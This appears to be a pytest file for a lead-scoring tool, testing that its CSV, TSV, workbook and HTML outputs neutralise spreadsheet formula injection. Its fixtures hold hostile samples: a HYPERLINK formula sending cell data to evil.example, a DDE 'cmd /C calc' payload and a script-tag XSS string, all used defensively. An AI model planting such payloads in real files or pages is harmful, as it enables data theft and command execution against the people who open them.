"""Formula-safe outputs (OWASP "CSV injection"): a text cell a spreadsheet would run gets a
leading single quote in CSV, TSV and workbooks; numbers stay numbers; a workbook never holds a
formula; JSON, JSON Lines and Parquet hold the values as they are; the HTML report escapes
every value. `--no-escape-formulas` (escape_formulas=False) writes cells as they are."""

from __future__ import annotations

import csv
import io
import json
import re
import shutil
import zipfile
from pathlib import Path
from xml.etree import ElementTree

import polars as pl
import pytest

import revq
from revq.io.formulas import escape_formulas, unescape_formulas
from revq.io.writers import csv_text, sink_frame_atomic, write_frame_atomic
from tests.conftest import ROOT, SAMPLE, run_cli

# The payloads of the issue, and the first characters OWASP names: = + - @ tab CR.
PAYLOADS = [
    '=HYPERLINK("http://evil.example/?x="&A1,"Click")',
    "@SUM(A1:A9)",
    "+cmd|' /C calc'!A0",
    "-2+3",
    "\tx=1",
    "\r=1",
]
# What reaches an output through a leads export: the loader trims a value's spaces, tabs and
# line ends, so the issue's four payloads.
LEAD_PAYLOADS = PAYLOADS[:4]
AS_OF = "2026-10-31"


def test_each_formula_start_is_quoted_and_nothing_else() -> None:
    frame = pl.DataFrame(
        {
            "text": [*PAYLOADS, "-12.5", "+1e3", "Acme", " =1", "", None],
            "amount": [-1.5, -2.0, 3.0, -4.0, 5.0, 6.0, -7.0, 8.0, 9.0, -10.0, 11.0, None],
        }
    )
    got = escape_formulas(frame)
    expected = [*("'" + p for p in PAYLOADS), "-12.5", "+1e3", "Acme", " =1", "", None]
    assert got["text"].to_list() == expected
    assert got["amount"].to_list() == frame["amount"].to_list()  # a number is no text
    # lazily too, as a streamed output is escaped
    assert escape_formulas(frame.lazy()).collect().equals(got)


def test_a_column_name_that_would_run_is_quoted_too() -> None:
    frame = pl.DataFrame({"=cmd": ["a"], "-": ["b"], "name": ["c"]})
    assert escape_formulas(frame).columns == ["'=cmd", "'-", "name"]


def test_categorical_text_is_escaped_and_stays_text() -> None:
    frame = pl.DataFrame({"stage": ["=x", "mql"]}, schema={"stage": pl.Categorical})
    assert escape_formulas(frame)["stage"].to_list() == ["'=x", "mql"]


def _cells(path: Path, delimiter: str = ",") -> list[dict[str, str]]:
    with path.open(newline="", encoding="utf-8") as handle:
        return list(csv.DictReader(handle, delimiter=delimiter))


@pytest.mark.parametrize("suffix", [".csv", ".tsv"])
def test_a_streamed_output_is_the_held_one(tmp_path: Path, suffix: str) -> None:
    frame = pl.DataFrame({"lead": PAYLOADS, "n": list(range(len(PAYLOADS)))})
    held, streamed = tmp_path / f"held{suffix}", tmp_path / f"streamed{suffix}"
    write_frame_atomic(held, frame)
    sink_frame_atomic(streamed, frame.lazy())
    assert held.read_bytes() == streamed.read_bytes()
    rows = _cells(held, "\t" if suffix == ".tsv" else ",")
    assert [r["lead"] for r in rows] == ["'" + p for p in PAYLOADS]


def _workbook(path: Path) -> tuple[str, list[str]]:
    """The sheet's XML and the workbook's shared strings, read from the file itself."""
    with zipfile.ZipFile(path) as archive:
        sheet = archive.read("xl/worksheets/sheet1.xml").decode("utf-8")
        shared = ElementTree.fromstring(archive.read("xl/sharedStrings.xml"))
    ns = "{http://schemas.openxmlformats.org/spreadsheetml/2006/main}"
    strings = ["".join(t.text or "" for t in si.iter(f"{ns}t")) for si in shared]
    return sheet, strings


def _xml_text(text: str) -> str:
    """A string as a workbook holds it: a carriage return escaped, as OOXML escapes it."""
    return text.replace("\r", "_x000D_")


@pytest.mark.parametrize("escape", [True, False])
def test_a_workbook_holds_text_never_a_formula_or_a_link(tmp_path: Path, escape: bool) -> None:
    frame = pl.DataFrame({"lead": [*PAYLOADS, "http://evil.example"], "amount": [-5] * 7})
    path = tmp_path / "leads.xlsx"
    write_frame_atomic(path, frame, escape=escape)
    sheet, strings = _workbook(path)
    assert "<f>" not in sheet and "<hyperlink" not in sheet
    quote = "'" if escape else ""
    expected = [_xml_text(quote + p) for p in PAYLOADS]
    assert [s for s in strings if s in expected] == expected
    assert re.findall(r"<v>(-?\d+)</v>", sheet).count("-5") == 7  # numbers, not text


@pytest.fixture(scope="module")
def hostile(tmp_path_factory: pytest.TempPathFactory) -> Path:
    """The sample project in which four leads (no one's duplicates) are named with the
    payloads, as company and first name."""
    root = tmp_path_factory.mktemp("hostile")
    shutil.copytree(SAMPLE, root / "sample_data")
    shutil.copytree(ROOT / "configs", root / "configs")
    contacts = root / "sample_data" / "hubspot_contacts.csv"
    leads = pl.read_csv(contacts, infer_schema=False)
    ids = _hostile_ids(leads)
    named = pl.DataFrame({"Record ID": ids, "_payload": LEAD_PAYLOADS})
    leads = (
        leads.join(named, on="Record ID", how="left", maintain_order="left")
        .with_columns(
            pl.coalesce("_payload", "Company Name").alias("Company Name"),
            pl.coalesce("_payload", "First Name").alias("First Name"),
        )
        .drop("_payload")
    )
    leads.write_csv(contacts)
    return root / "sample_data"


def _hostile_ids(leads: pl.DataFrame | Path) -> list[str]:
    """Four leads whose id and email no other lead shares, so no merge takes them away."""
    if isinstance(leads, Path):
        leads = pl.read_csv(leads / "hubspot_contacts.csv", infer_schema=False)
    email = pl.col("Email").str.strip_chars().str.to_lowercase()
    alone = pl.col("Record ID").is_unique() & email.is_unique() & email.str.contains("@")
    return leads.filter(alone)["Record ID"].head(len(LEAD_PAYLOADS)).to_list()


def test_score_out_csv_quotes_the_hostile_leads(hostile: Path, tmp_path: Path) -> None:
    out = tmp_path / "scored.csv"
    result = run_cli(["score", "--as-of", AS_OF, "--out", str(out)], cwd=hostile)
    assert result.exit_code == 0, result.stderr
    by_id = {r["lead_id"]: r for r in _cells(out)}
    ids = _hostile_ids(hostile)
    assert [by_id[i]["company"] for i in ids] == ["'" + p for p in LEAD_PAYLOADS]
    assert [by_id[i]["first_name"] for i in ids] == ["'" + p for p in LEAD_PAYLOADS]
    # a negative score is a number: never quoted
    negatives = [r["negative_score"] for r in by_id.values() if r["negative_score"] != "0.0"]
    assert negatives and all(re.fullmatch(r"-\d+(\.\d+)?", v) for v in negatives)
    # no other text starts with what a spreadsheet would run: top reasons start with a sign
    # ("+22.5 demo_request, ..."), which Excel had read as a formula (#NAME?)
    for row in by_id.values():
        for column, value in row.items():
            if column.endswith("_score"):
                continue
            assert not value.startswith(("=", "+", "-", "@", "\t", "\r")), (column, value)
    reasons = [r["top_reasons"] for r in by_id.values() if r["top_reasons"]]
    assert reasons and all(r.startswith(("'+", "'-")) for r in reasons)

    # --format csv prints the file's bytes; the held rows (stdout) and the streamed sink agree
    printed = run_cli(["-q", "score", "--as-of", AS_OF, "--format", "csv"], cwd=hostile)
    assert printed.stdout.encode("utf-8") == out.read_bytes()


def test_no_escape_formulas_writes_the_cells_as_they_are(hostile: Path, tmp_path: Path) -> None:
    out = tmp_path / "raw.csv"
    args = ["score", "--as-of", AS_OF, "--out", str(out), "--no-escape-formulas"]
    assert run_cli(args, cwd=hostile).exit_code == 0
    by_id = {r["lead_id"]: r for r in _cells(out)}
    assert [by_id[i]["company"] for i in _hostile_ids(hostile)] == LEAD_PAYLOADS


def test_json_jsonl_and_parquet_hold_the_values(hostile: Path, tmp_path: Path) -> None:
    ids = _hostile_ids(hostile)
    printed = run_cli(["-q", "score", "--as-of", AS_OF, "--format", "json"], cwd=hostile)
    by_id = {r["lead_id"]: r for r in json.loads(printed.stdout)}
    assert [by_id[i]["company"] for i in ids] == LEAD_PAYLOADS
    for suffix in (".jsonl", ".parquet"):
        out = tmp_path / f"scored{suffix}"
        assert run_cli(["score", "--as-of", AS_OF, "--out", str(out)], cwd=hostile).exit_code == 0
        frame = pl.read_ndjson(out) if suffix == ".jsonl" else pl.read_parquet(out)
        companies = dict(zip(frame["lead_id"].cast(pl.String), frame["company"], strict=True))
        assert [companies[i] for i in ids] == LEAD_PAYLOADS


def test_the_api_writes_what_the_command_writes(hostile: Path, tmp_path: Path) -> None:
    scored = revq.Project.open(hostile).score(as_of=AS_OF)
    (tmp_path / "cli").mkdir()
    (tmp_path / "api").mkdir()
    for escape, flag in ((True, []), (False, ["--no-escape-formulas"])):
        for suffix in (".csv", ".tsv", ".xlsx"):  # one name: a workbook's sheet is its stem
            name = f"scored{escape}{suffix}"
            cli_out, api_out = tmp_path / "cli" / name, tmp_path / "api" / name
            args = ["score", "--as-of", AS_OF, "--out", str(cli_out), *flag]
            assert run_cli(args, cwd=hostile).exit_code == 0
            scored.write(api_out, escape_formulas=escape)
            assert api_out.read_bytes() == cli_out.read_bytes(), (escape, suffix)
    assert scored.to_csv().splitlines()[0].startswith("lead_id,")
    assert "'=HYPERLINK(" in scored.to_csv()
    assert "'=HYPERLINK(" not in scored.to_csv(escape_formulas=False)


def test_export_layout_explain_and_ledger_are_escaped(hostile: Path, tmp_path: Path) -> None:
    lead = _hostile_ids(hostile)[0]
    ledger = tmp_path / "ledger.csv"
    export = tmp_path / "export.csv"
    args = ["score", "--as-of", AS_OF, "--export", "hubspot", "--out", str(export)]
    assert run_cli([*args, "--explain-out", str(ledger)], cwd=hostile).exit_code == 0
    for path in (ledger, export):
        text = path.read_text(encoding="utf-8")
        assert not re.search(r"(^|,)[=+@]", text, re.M), path.name
    explained = run_cli(["explain", lead, "--as-of", AS_OF, "-f", "csv"], cwd=hostile)
    assert explained.exit_code == 0, explained.stderr
    assert not re.search(r"(^|,)[=+@]", explained.stdout, re.M)


def test_rejects_out_quotes_a_hostile_raw_value(tmp_path: Path) -> None:
    leads = tmp_path / "leads.csv"
    leads.write_text(
        "Record ID,Email,Number of Employees\n1,a@acme.example,=1+1\n2,b@acme.example,12\n",
        encoding="utf-8",
    )
    for suffix in (".csv", ".tsv", ".xlsx", ".json"):
        out = tmp_path / f"rejects{suffix}"
        result = run_cli(["inspect", str(leads), "--rejects-out", str(out)])
        assert result.exit_code == 0, result.stderr
        if suffix == ".xlsx":
            assert "'=1+1" in _workbook(out)[1]
        elif suffix == ".json":
            assert [r["raw_value"] for r in json.loads(out.read_text())] == ["=1+1"]
        else:
            rows = _cells(out, "\t" if suffix == ".tsv" else ",")
            assert [r["raw_value"] for r in rows] == ["'=1+1"]


def test_changes_and_audit_csv_are_escaped(hostile: Path, tmp_path: Path) -> None:
    old, new = tmp_path / "old.csv", tmp_path / "new.csv"
    old.write_text("lead_id,company\n1,Acme\n2,Beta\n", encoding="utf-8")
    new.write_text('lead_id,company\n1,Acme\n2,@SUM(A1:A9)\n3,"=1+1"\n', encoding="utf-8")
    pushed = run_cli(["-q", "changes", str(old), str(new)])
    assert pushed.exit_code == 0, pushed.stderr
    assert pushed.stdout == "lead_id,company\n2,'@SUM(A1:A9)\n3,'=1+1\n"
    raw = run_cli(["-q", "changes", str(old), str(new), "--no-escape-formulas"])
    assert raw.stdout == "lead_id,company\n2,@SUM(A1:A9)\n3,=1+1\n"

    dispositions = hostile / "dispositions.csv"
    original = dispositions.read_bytes()
    try:
        frame = pl.read_csv(dispositions, infer_schema=False)
        frame.with_columns(pl.lit("=cmd|' /C calc'!A0").alias("rep")).write_csv(dispositions)
        audit = run_cli(["-q", "audit", "rejections", "--as-of", AS_OF, "-f", "csv"], cwd=hostile)
    finally:
        dispositions.write_bytes(original)
    assert audit.exit_code == 0, audit.stderr
    cuts = list(csv.DictReader(io.StringIO(audit.stdout)))
    assert [r["value"] for r in cuts if r["dimension"] == "rep"] == ["'=cmd|' /C calc'!A0"]


def test_the_html_report_escapes_every_value(hostile: Path, tmp_path: Path) -> None:
    script = "<script>alert(1)</script>"
    files = {
        "hubspot_contacts.csv": ("Contact owner", "Company Name"),
        "dispositions.csv": ("rep", "reason"),
        "signals.csv": ("detail", "company"),
    }
    saved = {name: (hostile / name).read_bytes() for name in files}
    try:
        for name, columns in files.items():
            frame = pl.read_csv(hostile / name, infer_schema=False)
            frame.with_columns(pl.lit(script).alias(c) for c in columns).write_csv(hostile / name)
        out = tmp_path / "weekly.html"
        args = ["report", "--weekly", "--as-of", AS_OF, "--out", str(out)]
        result = run_cli(args, cwd=hostile)
    finally:
        for name, data in saved.items():
            (hostile / name).write_bytes(data)
    assert result.exit_code == 0, result.stderr
    html = out.read_text(encoding="utf-8")
    assert "<script" not in html
    assert html.count("&lt;script&gt;alert(1)&lt;/script&gt;") >= 3  # owner, rep, signal


def test_revq_reads_its_own_escaped_output_as_it_was() -> None:
    frame = pl.DataFrame(
        {
            "=name": [*PAYLOADS, "-12.5", "'=kept", "Acme", None],
            "n": list(range(len(PAYLOADS) + 4)),
        }
    )
    back = unescape_formulas(pl.read_csv(io.StringIO(csv_text(frame)), infer_schema=False))
    assert back.columns == frame.columns
    # the one loss: a value that itself began with a quote before = reads back without it
    expected = [*PAYLOADS, "-12.5", "=kept", "Acme", None]
    assert back["=name"].to_list() == expected


def test_a_score_csv_piped_to_the_audit_reads_as_its_json_lines(tmp_path: Path) -> None:
    # `revq score -f csv | revq audit rejections --leads -`: the quotes that make the top
    # reasons safe in a spreadsheet are not part of the rule names the audit counts.
    csv_out = run_cli(["-q", "score", "--as-of", AS_OF, "-f", "csv"], cwd=SAMPLE).stdout
    assert "\"'+" in csv_out
    jsonl = tmp_path / "scored.jsonl"
    assert run_cli(["score", "--as-of", AS_OF, "--out", str(jsonl)], cwd=SAMPLE).exit_code == 0
    audit = ["audit", "rejections", "--as-of", AS_OF, "-f", "json", "--leads"]
    piped = run_cli([*audit, "-"], cwd=SAMPLE, input=csv_out.encode("utf-8"))
    assert piped.exit_code == 0, piped.stderr
    assert piped.stdout == run_cli([*audit, str(jsonl)], cwd=SAMPLE).stdout
